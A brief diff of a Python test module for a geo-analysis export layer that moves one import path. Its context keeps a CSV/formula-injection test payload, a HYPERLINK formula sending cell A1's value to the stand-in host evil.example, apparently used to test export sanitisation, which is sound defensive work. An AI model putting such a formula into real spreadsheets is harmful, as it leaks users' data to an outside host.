@@ -19,7 +19,7 @@ from hypothesis import strategies as st
 
 from geo.analysis.cells import FORMULA_STARTS, inert, revived
 from geo.models import Community, ReportingMember, ServiceCenter
-from tests.test_it_export_layer import import_layer, run
+from tests.importers.test_it_export_layer import import_layer, run
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
 
